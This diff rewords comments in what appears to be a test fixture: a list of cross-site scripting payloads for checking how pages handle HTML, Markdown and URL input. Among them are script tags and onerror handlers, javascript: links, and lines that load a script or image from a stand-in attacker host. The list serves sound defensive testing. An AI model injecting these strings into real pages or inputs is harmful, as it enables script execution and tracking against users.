@@ -1,6 +1,6 @@
-/** FieldValues that try to make a page run `harm()`, by HTML, by Markdown, by URLs and by what parsers overlook. */
+/** Field values that try to make a page run `harm()`: by HTML, Markdown, URLs and parser quirks. */
 export const XSS_VECTORS: string[] = [
-  // HTML where no HTML is taken.
+  // HTML where none is allowed.
   "<script>harm()</script>",
   "<ScRiPt>harm()</sCrIpT>",
   "<script src=//evil.example/x.js></script>",
@@ -65,7 +65,7 @@ export const XSS_VECTORS: string[] = [
   "\u003cimg src=x onerror=harm()\u003e",
   "＜script＞harm()＜/script＞",
   "<img src=x\u0000onerror=harm()>".replaceAll("\u0000", "\u0001"),
-  // Addresses that run.
+  // URLs that run code.
   "[a](javascript:harm())",
   "[a](JaVaScRiPt:harm())",
   "[a]( javascript:harm())",
@@ -105,7 +105,7 @@ export const XSS_VECTORS: string[] = [
   "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGFybSgpPg==)",
   "![a](https://evil.example/track.png)",
   "![<img src=x onerror=harm()>](https://evil.example/a.png)",
-  // Places that Markdown turns into attributes or ids.
+  // Positions that Markdown turns into attributes or ids.
   "# <img src=x onerror=harm()>",
   '## "onmouseover="harm()',
   "### [x](javascript:harm())",
